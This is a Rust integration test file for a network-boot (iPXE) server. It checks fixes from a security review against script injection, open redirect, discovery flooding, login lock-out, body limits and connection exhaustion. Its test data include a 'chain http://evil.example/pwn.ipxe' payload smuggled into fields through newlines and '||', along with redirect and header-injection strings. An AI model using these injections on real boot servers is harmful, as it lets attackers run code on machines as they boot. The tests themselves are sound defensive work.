//! The security review's findings, each against the real binary: script injection, open
//! redirect, unbounded writes by booting machines, login lock-out, read-only logout, body
//! limits. What needs several client sources or a machine's own leased address is in
//! tests/boot_guard.rs (network namespaces).

#[path = "support/mod.rs"]
mod support;

use std::time::Duration;

use bootforge::web::query_encode;
use serde_json::json;
use support::http::{api_server, ADMIN_PASSWORD, ADMIN_USER};
use support::Server;

const EVIL: &str = "chain http://evil.example/pwn.ipxe";

fn ready_machine(s: &Server, mac: &str, cmdline: &str) {
    let upsert = |path: &str, collection: &str, body: serde_json::Value| {
        let r = s.admin("PUT", path, Some(body.clone()));
        let r = if r.status == 404 {
            s.admin("POST", collection, Some(body))
        } else {
            r
        };
        assert!(r.status == 200 || r.status == 201, "{path}: {}", r.text());
    };
    upsert(
        "/api/v1/profiles/p",
        "/api/v1/profiles",
        json!({"name": "p", "kernel": "linux", "cmdline": cmdline}),
    );
    upsert(
        &format!("/api/v1/machines/{mac}"),
        "/api/v1/machines",
        json!({"mac": mac, "profile": "p", "state": "ready"}),
    );
}

/// No line of the script is (or continues into) a command the data put there.
fn assert_no_injected_line(script: &str) {
    assert!(script.starts_with("#!ipxe\n"), "{script}");
    for line in script.lines() {
        let words: Vec<&str> = line.split_ascii_whitespace().collect();
        assert!(
            !line.trim_start().starts_with("chain http://evil"),
            "injected line: {script}"
        );
        assert!(
            !words.iter().any(|w| matches!(*w, "||" | "&&" | ";")) || !line.contains("evil"),
            "injected command: {script}"
        );
    }
}

#[test]
fn stored_values_cannot_inject_ipxe_commands() {
    let s = api_server().start();
    let mac = "52:54:00:5e:c0:01";
    // On input: refused, naming the field.
    ready_machine(&s, mac, "console=ttyS0");
    for (path, body, field) in [
        (
            format!("/api/v1/machines/{mac}"),
            json!({"mac": mac, "profile": "p", "variables": {"disk": format!("/dev/sda\n{EVIL}\n#")}}),
            "variables",
        ),
        (
            "/api/v1/profiles/p".to_string(),
            json!({"name": "p", "kernel": "linux", "cmdline": format!("quiet || {EVIL}")}),
            "cmdline",
        ),
        (
            "/api/v1/profiles/p".to_string(),
            json!({"name": "p", "kernel": format!("linux\r\n{EVIL}")}),
            "kernel",
        ),
    ] {
        let r = s.admin("PUT", &path, Some(body));
        assert_eq!(r.status, 422, "{path}: {}", r.text());
        assert_eq!(r.json()["field"], field, "{}", r.text());
    }
    // A cmdline template that prints a line break passes input (it is template syntax) but
    // is caught when rendered: the machine gets the retry script, not the attacker's line.
    ready_machine(&s, mac, &format!("console=ttyS0 {{{{ \"\\n\" }}}}{EVIL}"));
    let r = s.request("GET", &format!("/boot/{mac}.ipxe"), &[], b"");
    assert_eq!(r.status, 200);
    let script = r.text();
    assert_no_injected_line(&script);
    assert!(script.contains("cannot build"), "{script}");

    // Rows written behind the API's back (an old version, a hand edit) are caught too.
    ready_machine(&s, mac, "console=ttyS0 disk={{ variables.disk }}");
    let sql = format!(
        "UPDATE machines SET variables = '{{\"disk\": \"/dev/sda\\n{EVIL}\\n#\"}}' WHERE mac = '{mac}';"
    );
    s.sql(&sql);
    let script = s
        .request("GET", &format!("/boot/{mac}.ipxe"), &[], b"")
        .text();
    assert_no_injected_line(&script);
    assert!(script.contains("cannot build"), "{script}");
    // The API's preview refuses it the same way, and the operator can see why.
    let r = s.admin("GET", &format!("/api/v1/machines/{mac}/script"), None);
    assert_no_injected_line(&r.text());
}

#[test]
fn login_next_never_leaves_the_site() {
    let s = api_server().start();
    for next in [
        "/%09/evil.example/phish",
        "//evil.example",
        "/%5Cevil.example",
        "/%0Aevil",
    ] {
        let r = s.request("GET", &format!("/login?next={next}"), &[], b"");
        assert_eq!(r.status, 200, "{next}");
        assert_eq!(
            r.hidden_input("next").as_deref(),
            Some("/machines"),
            "{next}"
        );
    }
    // Posted directly (not through the form): a line break used to give a 500.
    let form = s.request("GET", "/login", &[], b"");
    let login_cookie = form.cookie("bf_login_csrf").unwrap();
    let csrf = form.hidden_input("csrf_token").unwrap();
    for next in [
        "/\t/evil.example/phish",
        "/\nSet-Cookie: x=y",
        "/\\\\evil.example",
    ] {
        let body = format!(
            "username={}&password={}&csrf_token={csrf}&next={}",
            query_encode(ADMIN_USER),
            query_encode(ADMIN_PASSWORD),
            query_encode(next)
        );
        let r = s.request(
            "POST",
            "/login",
            &[
                ("Content-Type", "application/x-www-form-urlencoded"),
                ("Cookie", &format!("bf_login_csrf={login_cookie}")),
            ],
            body.as_bytes(),
        );
        assert_eq!(r.status, 303, "{next:?}: {}", r.text());
        assert_eq!(r.header("location"), Some("/machines"), "{next:?}");
    }
}

fn metric(s: &Server, line_start: &str) -> u64 {
    let text = s.request("GET", "/metrics", &[], b"").text();
    text.lines()
        .find(|l| l.starts_with(line_start))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("{line_start} not in {text}"))
}

fn discovered_count(s: &Server) -> u64 {
    s.admin("GET", "/api/v1/machines?state=discovered&per_page=1", None)
        .json()["total"]
        .as_u64()
        .expect("total")
}

#[test]
fn booting_clients_cannot_grow_the_inventory_without_bound() {
    let s = api_server()
        .envs(&[
            ("BOOTFORGE_BOOT__MAX_DISCOVERED", "40"),
            ("BOOTFORGE_BOOT__DISCOVERY_PER_SOURCE_PER_MINUTE", "60"),
        ])
        .start();
    // 100 made-up MACs from one source within a minute.
    for i in 0..100u32 {
        let mac = format!("02:00:00:00:{:02x}:{:02x}", i >> 8, i & 0xff);
        let r = s.request("GET", &format!("/boot/{mac}.ipxe"), &[], b"");
        assert_eq!(r.status, 200, "{mac}");
        assert!(r.text().contains("chain --replace"), "still told to wait");
    }
    support::poll_until(
        Duration::from_secs(10),
        || metric(&s, "bootforge_store_events_total"),
        |n| *n >= 60,
    );
    assert_eq!(discovered_count(&s), 40, "the total cap holds");
    assert_eq!(
        metric(
            &s,
            "bootforge_boot_refused_total{reason=\"discovery_rate_limited\"}"
        ),
        40,
        "the per-source limit let 60 through"
    );
    assert_eq!(metric(&s, "bootforge_discovery_refused_total"), 20);
    // Zero, broadcast and multicast MACs are refused outright (loopback clients used to
    // register as 00:00:00:00:00:00).
    for mac in [
        "00:00:00:00:00:00",
        "ff:ff:ff:ff:ff:ff",
        "01:00:5e:00:00:01",
    ] {
        let r = s.request("GET", &format!("/boot/{mac}.ipxe"), &[], b"");
        assert_eq!(r.status, 400, "{mac}");
        let r = s.request("POST", &format!("/boot/{mac}/done"), &[], b"");
        assert_eq!(r.status, 400, "{mac}");
    }
    let r = s.admin(
        "POST",
        "/api/v1/machines",
        Some(json!({"mac": "00:00:00:00:00:00"})),
    );
    assert_eq!(r.status, 422);
    assert_eq!(r.json()["field"], "mac");
}

#[test]
fn concurrent_wrong_logins_never_overshoot_the_limit() {
    let s = std::sync::Arc::new(api_server().start());
    let statuses: Vec<u16> = (0..8)
        .map(|_| {
            let s = s.clone();
            std::thread::spawn(move || s.login(ADMIN_USER, "wrong password").unwrap_err().status)
        })
        .collect::<Vec<_>>()
        .into_iter()
        .map(|h| h.join().unwrap())
        .collect();
    let failed = statuses.iter().filter(|s| **s == 401).count();
    let limited = statuses.iter().filter(|s| **s == 429).count();
    assert_eq!((failed, limited), (5, 3), "{statuses:?}");
}

#[test]
fn read_only_users_can_log_out() {
    let s = api_server().start();
    assert!(s
        .add_user_cli("viewer", "viewer-password-1", false)
        .status
        .success());
    let session = s
        .login("viewer", "viewer-password-1")
        .expect("viewer logs in");
    let body = format!("csrf_token={}", session.csrf);
    let r = s.request(
        "POST",
        "/logout",
        &[
            ("Cookie", &session.cookie),
            ("Content-Type", "application/x-www-form-urlencoded"),
        ],
        body.as_bytes(),
    );
    assert_eq!(r.status, 303, "{}", r.text());
    let r = s.request(
        "GET",
        "/api/v1/machines",
        &[("Cookie", &session.cookie)],
        b"",
    );
    assert_eq!(r.status, 401, "the session ended");
    // Still read-only for everything else.
    let session = s.login("viewer", "viewer-password-1").unwrap();
    let r = s.request(
        "POST",
        "/api/v1/profiles",
        &[
            ("Cookie", &session.cookie),
            ("X-CSRF-Token", &session.csrf),
            ("Content-Type", "application/json"),
        ],
        br#"{"name": "x"}"#,
    );
    assert_eq!(r.status, 403);
}

#[test]
fn oversized_bodies_get_413_and_api_errors_are_json() {
    let s = api_server().start();
    // 3 MB: over the 2 MB JSON limit.
    let huge = json!({"mac": "52:54:00:00:00:01", "variables": {"blob": "x".repeat(3 << 20)}});
    let r = s.admin("POST", "/api/v1/machines", Some(huge));
    assert_eq!(r.status, 413, "{}", r.text());
    assert!(r
        .header("content-type")
        .unwrap()
        .starts_with("application/json"));
    assert!(
        r.json()["error"].as_str().unwrap().contains("length limit"),
        "{}",
        r.text()
    );
    // Under the body limit but over the field cap: a field error.
    let big = json!({"mac": "52:54:00:00:00:01", "variables": {"blob": "x".repeat(100_000)}});
    let r = s.admin("POST", "/api/v1/machines", Some(big));
    assert_eq!(r.status, 422, "{}", r.text());
    assert_eq!(r.json()["field"], "variables");
    // axum's own rejections speak JSON too.
    let token = format!("Bearer {}", support::http::BOOTSTRAP_TOKEN);
    let r = s.request(
        "POST",
        "/api/v1/machines",
        &[("Authorization", &token), ("Content-Type", "text/plain")],
        b"{}",
    );
    assert_eq!(r.status, 415, "{}", r.text());
    assert!(r.json()["error"].is_string());
    let r = s.admin("DELETE", "/api/v1/leases", None);
    assert_eq!(r.status, 405);
    assert!(r.json()["error"].is_string(), "{}", r.text());
}

/// Anyone on the wire can open connections to the boot listener. It holds a bounded number
/// (three quarters of its open-files limit: 300 of 400 here), closes the rest as soon as it
/// accepts them and counts them, and serves again as soon as some go.
#[test]
fn idle_connections_cannot_exhaust_the_boot_listener() {
    const MAX: usize = 300;
    let s = api_server().open_files(400).start();
    let mut held: Vec<std::net::TcpStream> = (0..MAX + 10)
        .map(|_| s.connect().expect("connect"))
        .collect();
    // The listener accepts them all; the ten beyond its bound are closed at once.
    std::thread::sleep(Duration::from_secs(2));
    let closed = held
        .iter()
        .filter(|c| {
            c.set_nonblocking(true).unwrap();
            // Nothing was sent, so an open connection has nothing to read yet.
            let mut stream: &std::net::TcpStream = c;
            match std::io::Read::read(&mut stream, &mut [0u8; 1]) {
                Ok(n) => n == 0,
                Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
            }
        })
        .count();
    assert_eq!(closed, 10, "connections closed beyond the bound");
    held.truncate(MAX - 20);
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(metric(&s, "bootforge_http_connections_refused_total "), 10);
    // The held ones and this request's own.
    assert_eq!(
        metric(&s, "bootforge_http_connections_open "),
        (MAX - 20 + 1) as u64
    );
    drop(held);
    assert_eq!(s.request("GET", "/healthz", &[], b"").status, 200);
}
